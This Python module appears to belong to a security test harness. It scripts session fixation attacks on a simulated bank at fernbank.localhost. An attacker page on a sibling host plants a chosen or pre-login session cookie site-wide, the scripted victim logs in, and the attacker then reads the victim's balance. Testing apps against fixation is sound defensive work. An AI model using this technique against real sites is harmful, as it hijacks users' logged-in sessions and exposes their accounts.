"""Session fixation: the victim logs in with an id that Mallory knew before (CWE-384, ASVS 5.0 7.2.4).

She plants it from a sibling host of the bank's, which may set cookies for the whole site (RFC 6265bis §8.6).
"""

from .attempt import Attempt, Target
from .prediction import session_cookie
from .victim import EVIL, Page, hidden_fields

__all__ = ["anonymous_id", "unknown_id"]


def unknown_id(target: Target) -> Attempt:
    """Plant an id that she made up, of the form that the bank's own ids have."""
    mallory = target.mallory(logged_in=True)
    name = session_cookie(mallory)
    return _fix(target, name, "M" * len(mallory.cookies[name]))


def anonymous_id(target: Target) -> Attempt:
    """Plant an id that the bank itself gave her, for a basket, before any log-in."""
    mallory = target.mallory()
    page = mallory.get("/basket", headers={"Accept": "text/html"})
    mallory.post("/basket", form={"item": "umbrella", **hidden_fields(page.text)})
    name = session_cookie(mallory)
    return _fix(target, name, mallory.cookies[name])


def _fix(target: Target, name: str, id: str) -> Attempt:
    watch = target.watch()
    target.victim.open(Page(EVIL, cookies=(f"{name}={id}; Domain=fernbank.localhost; Path=/",)))
    target.victim.log_in()
    answer = target.mallory().get("/balance", headers={"Cookie": f"{name}={id}"})
    return Attempt(list(watch), answer.json() if answer.status == 200 else {}, 1)
